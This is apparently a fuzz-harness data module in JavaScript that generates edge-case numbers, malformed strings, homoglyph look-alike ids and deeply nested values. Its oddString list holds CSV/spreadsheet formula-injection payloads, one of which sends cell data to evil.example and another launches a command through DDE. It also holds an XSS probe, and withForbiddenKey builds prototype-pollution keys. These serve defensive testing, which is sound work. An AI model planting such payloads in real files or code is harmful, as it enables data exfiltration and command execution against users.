// Hostile values and look-alike text for the fuzz harness: what a careless user or an
// attacker puts where a number, a string or an id belongs.

/** Numbers that test every digit limit and every edge of a double. */
export const NUMBERS = [
  0,
  -0,
  1,
  -1,
  0.1,
  0.30000000000000004,
  1e-7,
  1e-8,
  9.999999999999999e-8,
  5e-324,
  -5e-324,
  1e20,
  9.99999999999999e19,
  1e21,
  123456789012345680000,
  1.7976931348623157e308,
  -1.7976931348623157e308,
  2 ** 53,
  2 ** 53 + 2,
  -(2 ** 31),
  4294967296,
  0.1 + 0.2,
  1 / 3,
  2 / 3,
  Math.PI,
  1e-30,
  1.2345678901234567e-25,
  99999,
  100.5,
  14.5,
  -14.5,
  1e300,
  1e-300,
]

/** Numbers JSON cannot hold. */
export const NOT_FINITE = [Number.NaN, Number.POSITIVE_INFINITY, Number.NEGATIVE_INFINITY]

/** Decimal texts at and past the limits, and texts that only look like numbers. */
export function numberTexts(rng) {
  const z = rng.int(18, 40)
  return rng.pick([
    `0.${'0'.repeat(z)}1`,
    `0,${'0'.repeat(z)}1`,
    `1${'0'.repeat(z)}`,
    `${'9'.repeat(rng.int(19, 25))}`,
    `${'1'.repeat(rng.int(15, 22))}.${'3'.repeat(rng.int(5, 12))}`,
    `1/${'7'.repeat(rng.int(18, 23))}`,
    `${'3'.repeat(rng.int(18, 23))}/7`,
    '1/3',
    '2/0',
    '0/0',
    '-1/3',
    '1/-3',
    '1e400',
    '-1e400',
    '1e-400',
    '1e20',
    '1e21',
    '1e-30',
    '1e-31',
    '1.5e+2',
    '  14,5  ',
    '14.50',
    '1.234,56',
    '1,234.56',
    '1 234,5',
    '−1',
    '٣',
    '１２',
    '0x10',
    '1_000',
    '+5',
    '.5',
    '5.',
    '-0',
    'NaN',
    'Infinity',
    '-Infinity',
    '1e',
    'e5',
    '',
    ' ',
    '∞',
    '½',
    '1.2.3',
    `${'1'.repeat(rng.int(90, 110))}`,
    `${rng.int(0, 9)}${'0'.repeat(rng.int(95, 120))}`,
    `0.${'0'.repeat(rng.int(90, 200))}5`,
    `${'9'.repeat(5000)}`,
    `1e${rng.int(-400, 400)}`,
  ])
}

/** A huge string, at the edge of or past the string limit (100 000 characters). */
export function hugeString(rng) {
  const n = rng.pick([99_999, 100_000, 100_001, 250_000, 1_000_000])
  return rng.pick(['x', 'á', '9', ' ', 'ệ', '\u200b']).repeat(n)
}

/** A string of any kind a form or a file could hold. */
export function oddString(rng) {
  return rng.pick([
    '',
    ' ',
    '\t',
    '\n',
    '\r\n',
    '\u0000',
    '\u200b',
    '\ufeff',
    'x'.repeat(rng.int(100, 3000)),
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    '+1+2',
    '@SUM(1,2)',
    '-2+3',
    '__proto__',
    'constructor',
    'prototype',
    'toString',
    'hasOwnProperty',
    'valueOf',
    '$.toString',
    '<script>alert(1)</script>',
    '"',
    '""',
    "'",
    ';',
    ',',
    '\\',
    '${x}',
    '{{x}}',
    'true',
    'null',
    'Tỷ lệ hồ sơ giải quyết đúng hạn',
    'History',
    'Lịch sử',
    '\ud800',
    '\udfff',
    '😀',
    'a\u0301',
  ])
}

const CYRILLIC = { a: 'а', c: 'с', e: 'е', o: 'о', p: 'р', x: 'х', y: 'у', i: 'і', s: 'ѕ', h: 'һ' }

/** An id or code that looks like `s` but differs: NFD, Cyrillic, zero-width, spaces, dashes. */
export function lookAlike(s, rng) {
  if (typeof s !== 'string') s = String(s)
  switch (rng.int(0, 9)) {
    case 0:
      return s.normalize('NFD')
    case 1: {
      const i = [...s].findIndex((ch) => ch in CYRILLIC)
      return i < 0 ? `${s}а` : [...s].map((ch, k) => (k === i ? CYRILLIC[ch] : ch)).join('')
    }
    case 2: {
      const k = rng.int(0, s.length)
      return s.slice(0, k) + rng.pick(['\u200b', '\u200c', '\u200d', '\u2060', '\ufeff', '\u00ad', '\u200e']) + s.slice(k)
    }
    case 3:
      return s + rng.pick([' ', '  ', '\t', '\u00a0', '\u3000', '\n'])
    case 4:
      return rng.pick([' ', '\u00a0', '\t']) + s
    case 5:
      return s.replace(/-/g, rng.pick(['–', '‐', '−'])).replace(/\./g, rng.pick(['．', '。', ',', '·']))
    case 6:
      return s.replace(/[0-9a-z]/gi, (ch) => String.fromCharCode(ch.charCodeAt(0) + 0xfee0))
    case 7:
      return s.toUpperCase()
    case 8:
      return s.replace(/đ/g, 'ð').replace(/Đ/g, 'Ð') + (s.includes('đ') ? '' : '\u0301')
    default:
      return s.slice(0, Math.max(0, s.length - 1)) + '\u0000' + s.slice(-1)
  }
}

/** Any JSON-ish value, of a random type. */
export function anyValue(rng, depth = 0) {
  switch (rng.int(0, depth > 2 ? 5 : 7)) {
    case 0:
      return null
    case 1:
      return rng.chance(0.5)
    case 2:
      return rng.pick(NUMBERS)
    case 3:
      return numberTexts(rng)
    case 4:
      return oddString(rng)
    case 5:
      return rng.chance(0.5) ? rng.pick(NOT_FINITE) : rng.int(-1000, 1000)
    case 6:
      return Array.from({ length: rng.int(0, 4) }, () => anyValue(rng, depth + 1))
    default: {
      const o = {}
      for (let i = rng.int(0, 4); i > 0; i--) o[rng.pick(['a', 'code', 'points', 'fact', 'value', 'kind', 'id', '1.1', oddString(rng)])] = anyValue(rng, depth + 1)
      return o
    }
  }
}

/** `value` wrapped in `depth` levels of arrays, objects, or both. */
export function nest(value, depth, rng) {
  const style = rng.int(0, 2)
  let v = value
  for (let i = 0; i < depth; i++) v = style === 0 || (style === 2 && i % 2 === 0) ? [v] : { a: v }
  return v
}

/** A depth worth trying: around the depth limit (64), or far past it. */
export function depthToTry(rng) {
  return rng.pick([30, 62, 63, 64, 65, 66, 200, 700, 1500, 5000, 20_000])
}

/** An object whose own key is one of the forbidden ones, as JSON.parse would make it. */
export function withForbiddenKey(target, rng) {
  const key = rng.pick(['__proto__', 'constructor', 'prototype'])
  const payload = rng.pick([{ polluted: 'yes' }, { prototype: { polluted: 'yes' } }, { toString: 'x' }, [], 'x', null, 1])
  Object.defineProperty(target, key, { value: payload, enumerable: true, writable: true, configurable: true })
  return key
}
